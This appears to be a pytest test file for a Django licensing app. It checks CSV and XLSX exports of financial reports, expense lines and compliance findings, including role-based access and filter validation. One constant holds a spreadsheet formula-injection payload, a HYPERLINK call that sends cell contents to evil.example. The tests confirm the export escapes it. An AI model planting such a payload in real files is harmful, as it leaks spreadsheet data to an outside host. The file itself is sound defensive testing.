"""CSV and XLSX exports of financial reports, their lines and their findings: the files parse back with the right
rows, each caller exports what it may see, filters are checked, and no cell runs as a formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from licensing.board.exports import datasets
from licensing.models import ReportFinding, Role
from tests.licensing.factories import OrganizationFactory, UserFactory, board_member, board_staff, member
from tests.licensing.reports.factories import bingo_license, submitted

pytestmark = pytest.mark.django_db

DAY = dt.date(2027, 3, 1)
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def world():
    """Two organizations with a submitted report each; the first with supplies bought and a finding."""
    ours = bingo_license(dates=[DAY], organization=OrganizationFactory(name="Our Club"))
    theirs = bingo_license(dates=[dt.date(2026, 5, 1)], organization=OrganizationFactory(name="Their Club"))
    mine = submitted(ours, DAY, expenses=[
        {"payee": INJECTION, "amount": "1234.56", "vendor_license": "vn-2026-00001", "purchase_date": "2027-02-20",
         "check_number": 101},
        {"payee": "Hall rent", "category": "rent", "amount": "300.00", "check_number": 102},
    ])
    # The compliance checks find, among others, the supplies bought from no licensed vendor (30 DCMR 1403.1).
    assert ReportFinding.objects.filter(report=mine, rule="30 DCMR 1403.1").exists()
    other = submitted(theirs, dt.date(2026, 5, 1))
    return {"ours": ours, "theirs": theirs, "mine": mine, "other": other}


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def xlsx_rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == datasets.CONTENT_TYPES["xlsx"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


def api(client, dataset, file_format="csv", **query):
    return client.get(reverse("reports-export", args=[dataset, file_format]), query)


def test_the_reports_export_parses_back_with_one_row_per_report(client, world):
    client.force_login(board_staff())
    rows = csv_rows(api(client, "reports"))
    assert list(rows[0]) == list(datasets.REPORT_COLUMNS)
    assert [(r["organization"], r["license"], r["event_date"], r["status"]) for r in rows] == [
        ("Our Club", world["ours"].number, "2027-03-01", "submitted"),
        ("Their Club", world["theirs"].number, "2026-05-01", "submitted")]
    ours = rows[0]
    assert (ours["kind"], ours["version"], ours["report_due"], ours["expenses"], ours["findings"]) == (
        "bingo", "1", "2027-03-11", "1534.56", str(world["mine"].finding_rows.count()))
    assert ours["submitted_at"] and ours["overdue_since"] == "" and ours["corrects_report_id"] == ""


def test_the_xlsx_export_holds_numbers_dates_and_no_formula(client, world):
    client.force_login(board_staff())
    reports = xlsx_rows(api(client, "reports", "xlsx", organization=world["ours"].organization_id))
    assert len(reports) == 1
    # A number cell (a spreadsheet holds binary floating point: the cents read back as written).
    assert reports[0]["expenses"].data_type == "n" and Decimal(str(reports[0]["expenses"].value)) == Decimal("1534.56")
    assert reports[0]["event_date"].value == dt.datetime(2027, 3, 1)  # a date cell
    lines = xlsx_rows(api(client, "lines", "xlsx", organization=world["ours"].organization_id))
    supplies = next(line for line in lines if line["category"].value == "supplies")
    assert supplies["description"].value == "'" + INJECTION and supplies["description"].data_type == "s"
    assert supplies["vendor_license"].value == "VN-2026-00001"
    assert Decimal(str(supplies["amount"].value)) == Decimal("1234.56")
    assert supplies["date"].value == dt.datetime(2027, 2, 20)


def test_lines_and_findings(client, world):
    client.force_login(board_staff())
    lines = csv_rows(api(client, "lines", organization=world["ours"].organization_id))
    assert list(lines[0]) == list(datasets.LINE_COLUMNS)
    expenses = [(r["category"], r["amount"], r["row"]) for r in lines if r["section"] == "expenses"]
    assert expenses == [("supplies", "1234.56", "1"), ("rent", "300.00", "2")]
    assert lines[[r["section"] for r in lines].index("expenses")]["description"] == "'" + INJECTION
    findings = csv_rows(api(client, "findings", organization=world["ours"].organization_id))
    stored = [(world["ours"].number, f.rule, f.field, f.message) for f in world["mine"].finding_rows.order_by("pk")]
    assert [(f["license"], f["rule"], f["field"], f["message"]) for f in findings] == stored
    assert (world["ours"].number, "30 DCMR 1403.1", "expenses.1.vendor_license") in [row[:3] for row in stored]


def test_filters(client, world):
    client.force_login(board_member())
    assert [r["organization"] for r in csv_rows(api(client, "reports", year=2026))] == ["Their Club"]
    assert [r["organization"] for r in csv_rows(api(client, "reports", kind="raffle"))] == []
    assert len(csv_rows(api(client, "reports", status="submitted"))) == 2
    for bad in ({"year": "99999"}, {"year": "٢٠٢٧"}, {"kind": "poker"}, {"organization": "x"},
                {"status": "lost"}):
        answer = api(client, "reports", **bad)
        assert answer.status_code == 400 and answer.json()["errors"][0]["field"] == next(iter(bad)), bad
    assert csv_rows(api(client, "reports", organization=str(10**30))) == []  # no such id, and no overflow
    assert api(client, "accounts").status_code == 404
    assert api(client, "reports", "pdf").status_code == 404
    answer = api(client, "reports", "xlsx", year=2026)
    assert answer["Content-Disposition"] == 'attachment; filename="financial-reports-2026.xlsx"'


@pytest.mark.parametrize(("role", "status", "organizations"), [
    ("anonymous", 401, None), ("nobody", 200, []), ("officer", 200, ["Our Club"]),
    ("board_staff", 200, ["Our Club", "Their Club"]), ("board_member", 200, ["Our Club", "Their Club"]),
])
def test_each_caller_exports_what_it_may_see(client, world, role, status, organizations):
    user = {"anonymous": None, "nobody": UserFactory, "board_staff": board_staff, "board_member": board_member,
            "officer": lambda: member(world["ours"].organization, Role.OFFICER)}[role]
    if user is not None:
        client.force_login(user())
    for dataset in datasets.DATASETS:
        answer = api(client, dataset)
        assert answer.status_code == status
    if status == 200:
        assert sorted({r["organization"] for r in csv_rows(api(client, "reports"))}) == organizations
        assert {r["organization"] for r in csv_rows(api(client, "lines"))} <= set(organizations)
        # Another organization's id filters to nothing: it neither widens the scope nor says the id exists.
        theirs = csv_rows(api(client, "reports", organization=world["theirs"].organization_id))
        assert [r["organization"] for r in theirs] == (["Their Club"] if role.startswith("board") else [])


def test_the_portal_download_page_and_links(client, world):
    officer = member(world["ours"].organization, Role.OFFICER)
    client.force_login(officer)
    page = client.get(reverse("portal:report_exports"))
    assert page.status_code == 200
    text = page.content.decode()
    assert "Our Club" in text and "Their Club" not in text  # the officer's organizations only
    assert reverse("portal:report_export", args=["lines", "xlsx"]) in text
    rows = csv_rows(client.get(reverse("portal:report_export", args=["reports", "csv"])))
    assert [r["organization"] for r in rows] == ["Our Club"]
    findings = xlsx_rows(client.get(reverse("portal:report_export", args=["findings", "xlsx"])))
    assert len(findings) == world["mine"].finding_rows.count()
    bad = client.get(reverse("portal:report_export", args=["reports", "csv"]), {"year": "1"})
    assert bad.status_code == 400 and "text/html" in bad["Content-Type"]
    assert client.get(reverse("portal:report_export", args=["nothing", "csv"])).status_code == 404
    detail = client.get(reverse("portal:organization_detail", args=[world["ours"].organization_id]))
    assert f'{reverse("portal:report_exports")}?organization={world["ours"].organization_id}' in detail.content.decode()
    client.force_login(UserFactory())
    assert client.get(reverse("portal:report_exports")).status_code == 403
    assert client.get(reverse("portal:report_export", args=["reports", "csv"])).status_code == 403
    client.logout()
    assert client.get(reverse("portal:report_exports")).status_code == 302
    client.force_login(board_staff())
    rows = csv_rows(client.get(reverse("portal:report_export", args=["reports", "csv"])))
    assert len(rows) == 2
